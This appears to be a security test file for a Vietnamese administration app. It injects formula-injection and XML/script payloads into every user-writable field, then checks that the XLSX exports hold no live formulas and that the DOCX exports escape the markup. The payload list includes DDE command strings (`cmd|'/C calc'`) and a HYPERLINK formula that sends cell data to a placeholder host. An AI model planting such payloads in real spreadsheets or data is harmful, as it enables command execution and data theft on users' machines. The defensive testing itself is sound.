/**
 * Every spreadsheet and Word export, fed hostile text (issue #10, ASVS 5.0 V1.2.10, V1.3): the
 * demo data set with formula triggers and XML markup put at the front of every name, title,
 * address, note and minute a user can write; then each XLSX is read back with ExcelJS (no
 * formula cell, no text cell a spreadsheet would evaluate) and each DOCX's document.xml is
 * checked well-formed with the text escaped.
 */
import ExcelJS from 'exceljs';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadDemo } from '../../src/features/demo/demo.service.js';
import { importWorkbook } from '../../src/features/bundle/bundle.excel.js';
import { MODEL_SHEET, MODEL_WORKBOOK, modelSheetContext } from '../../src/features/models/models.excel.js';
import { safeCell, safeWorkbook, unsafeCellText } from '../../src/lib/cells.js';
import { system } from '../support/fixtures.js';
import { Client, createTestApp, type TestApp } from '../support/http.js';
import { zipEntry } from '../support/zip.js';

const ADMIN = 'mật khẩu quản trị thử nghiệm';
const MARKUP = '<w:p>]]> & <script>alert(1)</script>';
/** Each starts with what a spreadsheet takes for a formula; all carry markup for Word. */
const PAYLOADS = [
  `=HYPERLINK("http://x.invalid/?d="&A1;"Bấm") ${MARKUP}`,
  `+cmd|'/C calc'!A0 ${MARKUP}`,
  `-2+3+cmd|'/C calc'!A0 ${MARKUP}`,
  `@SUM(1+1)*cmd|'/C calc'!A0 ${MARKUP}`,
  `\t=1+1 ${MARKUP}`,
  `\r=1+1 ${MARKUP}`,
  `＝1+1 ${MARKUP}`,
  `＋1+1 ${MARKUP}`,
];
const TRIGGER = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

/** Every text a user writes that some export shows. */
const HOSTILE_COLUMNS: Record<string, string[]> = {
  units: ['name'],
  campaigns: ['theme'],
  campaign_fields: ['name'],
  campaign_criteria: ['name'],
  models: ['name', 'holder_name', 'problem', 'goals', 'method'],
  appraisal_rounds: ['name'],
  reward_decisions: ['issuer', 'signer', 'signer_title'],
  clearance_projects: ['name', 'investor'],
  clearance_households: ['name', 'address', 'note'],
  clearance_dialogues: ['place', 'chair', 'issues', 'agreements'],
  clearance_step_kinds: ['name'],
  clearance_complaints: ['content'],
  clearance_obstacles: ['description'],
  report_forms: ['name'],
  report_indicators: ['name', 'unit_label'],
  teams: ['name'],
  meetings: ['title', 'chair', 'minutes'],
  conclusions: ['content'],
  users: ['full_name'],
};

let t: TestApp;
let c: Client;
const ids = { campaign: '', round: '', decision: '', project: '', dialogue: 0, form: '' };

beforeAll(async () => {
  t = await createTestApp({ seed: false });
  await t.db.db.transaction().execute((trx) => loadDemo(trx, { adminPassword: ADMIN }));
  const db = t.db.db;
  let n = 0;
  for (const [table, columns] of Object.entries(HOSTILE_COLUMNS))
    for (const col of columns) {
      const p = PAYLOADS[n++ % PAYLOADS.length]!;
      await sql`update ${sql.table(table)} set ${sql.ref(col)} = ${p} || ' ' || ${sql.ref(col)} where ${sql.ref(col)} is not null`.execute(db);
    }
  const one = async <T,>(q: string) => ((await sql.raw<T>(q).execute(db)).rows[0] as T);
  ids.campaign = (await one<{ code: string }>('select code from campaigns')).code;
  ids.round = (await one<{ code: string }>('select code from appraisal_rounds')).code;
  ids.decision = (await one<{ number: string }>('select number from reward_decisions')).number;
  const d = await one<{ code: string; id: number }>('select p.code, d.id from clearance_dialogues d join clearance_projects p on p.id = d.project_id order by d.id');
  ids.project = d.code;
  ids.dialogue = d.id;
  ids.form = (await one<{ code: string }>('select code from report_forms')).code;
  c = new Client(t);
  expect((await c.login('admin', ADMIN)).status).toBe(200);
}, 300_000);
afterAll(() => t.close());

const enc = encodeURIComponent;
const XLSX_EXPORTS: [string, () => string][] = [
  ['danh sách mô hình', () => `/quan-tri/mo-hinh/xuat.xlsx?chu_de=${enc(ids.campaign)}`],
  ['danh sách mô hình để sửa rồi nhập lại', () => `/quan-tri/mo-hinh/xuat-de-sua.xlsx?chu_de=${enc(ids.campaign)}`],
  ['mẫu nhập mô hình', () => `/quan-tri/mo-hinh/mau.xlsx?chu_de=${enc(ids.campaign)}`],
  ['đề xuất khen thưởng của đợt thẩm định', () => `/quan-tri/tham-dinh/${enc(ids.round)}/de-xuat.xlsx`],
  ['danh sách kèm quyết định khen thưởng', () => `/quan-tri/khen-thuong/${enc(ids.decision)}/danh-sach.xlsx`],
  ['báo cáo tiến độ GPMB hằng tháng', () => '/quan-tri/gpmb/bao-cao-thang.xlsx?den=30/09/2021'],
  ['mẫu nhập hộ dân', () => `/quan-tri/gpmb/${enc(ids.project)}/mau-ho.xlsx`],
  ['tiến độ theo hộ × bước', () => `/quan-tri/gpmb/${enc(ids.project)}/ho-x-buoc.xlsx`],
  ['tổng hợp báo cáo định kỳ', () => `/quan-tri/bao-cao/${enc(ids.form)}/tong-hop.xlsx`],
];
const DOCX_EXPORTS: [string, () => string][] = [
  ['báo cáo kết quả (narrative)', () => `/quan-tri/chu-de/${enc(ids.campaign)}/bao-cao.docx?den=30/09/2021&ngay=06/10/2021`],
  ['tờ trình khen thưởng', () => `/quan-tri/tham-dinh/${enc(ids.round)}/to-trinh.docx`],
  ['quyết định khen thưởng', () => `/quan-tri/khen-thuong/${enc(ids.decision)}/quyet-dinh.docx`],
  ['báo cáo tiến độ GPMB (Word)', () => '/quan-tri/gpmb/bao-cao-thang.docx?den=30/09/2021'],
  ['biên bản đối thoại', () => `/quan-tri/gpmb/${enc(ids.project)}/doi-thoai/${ids.dialogue}/bien-ban.docx`],
  ['tài liệu giao ban', () => `/quan-tri/bao-cao/${enc(ids.form)}/giao-ban.docx`],
];

async function download(path: string): Promise<Buffer> {
  const res = await c.request(path);
  expect(res.status, `${path}: ${res.status}`).toBe(200);
  return Buffer.from(await res.arrayBuffer());
}

/** Every cell's text and whether it is a formula. */
async function cells(buf: Buffer): Promise<{ formulas: string[]; texts: string[] }> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buf as unknown as ArrayBuffer);
  const out = { formulas: [] as string[], texts: [] as string[] };
  wb.eachSheet((ws) =>
    ws.eachRow({ includeEmpty: false }, (row) =>
      row.eachCell({ includeEmpty: false }, (cell) => {
        if (cell.type === ExcelJS.ValueType.Formula || cell.formula) out.formulas.push(`${ws.name}!${cell.address}`);
        else if (cell.type === ExcelJS.ValueType.String || cell.type === ExcelJS.ValueType.RichText || cell.type === ExcelJS.ValueType.Hyperlink) out.texts.push(cell.text);
      }),
    ),
  );
  return out;
}

/**
 * A small well-formedness check of an XML document (no DTD): tags nest and close in order,
 * attribute values are quoted, text and attributes hold no raw `<` and only known entities.
 */
function wellFormed(xml: string): string | null {
  const body = xml.replace(/^<\?xml[^?]*\?>/, '');
  const stack: string[] = [];
  const entity = /&(?!(amp|lt|gt|quot|apos|#\d+|#x[0-9a-fA-F]+);)/;
  const re = /<([^>]*)>|([^<]+)/g;
  for (let m = re.exec(body); m; m = re.exec(body)) {
    if (m[2] !== undefined) {
      if (entity.test(m[2])) return `raw & in text near ${m[2].slice(0, 40)}`;
      if (m[2].includes(']]>')) return 'raw ]]> in text';
      continue;
    }
    const tag = m[1]!;
    if (tag.startsWith('!--') || tag.startsWith('?')) continue;
    if (tag.includes('<')) return `< inside a tag: ${tag.slice(0, 40)}`;
    const close = /^\/([\w:.-]+)\s*$/.exec(tag);
    if (close) {
      if (stack.pop() !== close[1]) return `</${close[1]}> closes the wrong element`;
      continue;
    }
    const open = /^([\w:.-]+)((?:\s+[\w:.-]+\s*=\s*("[^"]*"|'[^']*'))*)\s*(\/?)$/.exec(tag);
    if (!open) return `malformed tag <${tag.slice(0, 60)}>`;
    if (entity.test(open[2] ?? '')) return `raw & in an attribute of <${open[1]}>`;
    if (open[4] !== '/') stack.push(open[1]!);
  }
  return stack.length ? `unclosed <${stack.pop()}>` : null;
}

describe('xuất Excel: không ô nào thành công thức', () => {
  it.each(XLSX_EXPORTS)('%s', async (_name, path) => {
    const { formulas, texts } = await cells(await download(path()));
    expect(formulas).toEqual([]);
    expect(texts.filter((s) => TRIGGER.test(s))).toEqual([]);
    // the hostile text did reach the file, as text behind an apostrophe
    expect(texts.filter((s) => s.includes("'/C calc'") || s.includes('1+1')).length, 'payloads present').toBeGreaterThan(0);
  });

  it('safeCell and safeWorkbook neutralise every trigger, and are idempotent', async () => {
    for (const p of PAYLOADS) {
      expect(safeCell(p)).toBe(`'${p}`);
      expect(safeCell(safeCell(p))).toBe(`'${p}`);
      expect(unsafeCellText(String(safeCell(p)))).toBe(p);
    }
    expect(safeCell('Phường Bồ Đề')).toBe('Phường Bồ Đề');
    expect(safeCell(-5)).toBe(-5);
    expect(unsafeCellText("'chỉ là dấu nháy")).toBe("'chỉ là dấu nháy");
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('x');
    ws.addRow(['=1+1', { richText: [{ text: '@x' }, { text: ' y' }] }, { text: '+z', hyperlink: 'https://example.invalid' }, { formula: 'SUM(1,2)' }]);
    safeWorkbook(wb);
    const r = ws.getRow(1);
    expect(r.getCell(1).value).toBe("'=1+1");
    expect(r.getCell(2).text).toBe("'@x y");
    expect(r.getCell(3).text).toBe("'+z");
    expect(r.getCell(4).formula).toBe('SUM(1,2)');
  });

  it('an exported list imports back exactly: the apostrophe is taken off again', async () => {
    // a name the app itself could store (its input is trimmed: no leading tab or CR)
    const code = (await t.db.db.selectFrom('models').select('code').orderBy('code').executeTakeFirstOrThrow()).code;
    const name = `=HYPERLINK("http://x.invalid")&"Mô hình" ${MARKUP}`;
    await t.db.db.updateTable('models').set({ name }).where('code', '=', code).execute();
    const buf = await download(`/quan-tri/mo-hinh/xuat-de-sua.xlsx?chu_de=${enc(ids.campaign)}`);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(buf as unknown as ArrayBuffer);
    const ws = wb.getWorksheet(MODEL_SHEET.sheet)!;
    const nameCol = MODEL_SHEET.columns.findIndex((x) => x.key === 'name') + 1;
    const codeCol = MODEL_SHEET.columns.findIndex((x) => x.key === 'code') + 1;
    const row = Array.from({ length: ws.rowCount }, (_, i) => ws.getRow(i + 1)).find((r) => r.getCell(codeCol).text === code);
    expect(row?.getCell(nameCol).text).toBe(`'${name}`);
    const { ctx } = await modelSheetContext(t.db.db, system, ids.campaign);
    const r = await importWorkbook(t.db.db, system, { buf, fileName: 'xuat.xlsx', ...MODEL_WORKBOOK, ctx, dryRun: false });
    expect(r.rows).toBeGreaterThan(0);
    expect(Object.values(r.counts).reduce((s, x) => s + x.created, 0)).toBe(0);
    const after = await t.db.db.selectFrom('models').select('name').where('code', '=', code).executeTakeFirstOrThrow();
    expect(after.name).toBe(name);
  });
});

describe('xuất Word: văn bản được thoát, XML hợp lệ', () => {
  it.each(DOCX_EXPORTS)('%s', async (_name, path) => {
    const xml = zipEntry(await download(path()), 'word/document.xml');
    expect(wellFormed(xml)).toBeNull();
    expect(xml).not.toContain('<script>');
    expect(xml).not.toContain(']]>');
    expect(xml).toContain('&lt;w:p&gt;]]&gt; &amp; &lt;script&gt;alert(1)&lt;/script&gt;');
  });

  it('the checker itself refuses what is not well-formed', () => {
    expect(wellFormed('<a><b>x</b></a>')).toBeNull();
    expect(wellFormed('<a><w:p>x</a>')).not.toBeNull();
    expect(wellFormed('<a>x & y</a>')).not.toBeNull();
    expect(wellFormed('<a>x ]]> y</a>')).not.toBeNull();
    expect(wellFormed('<a><b></a></b>')).not.toBeNull();
  });
});
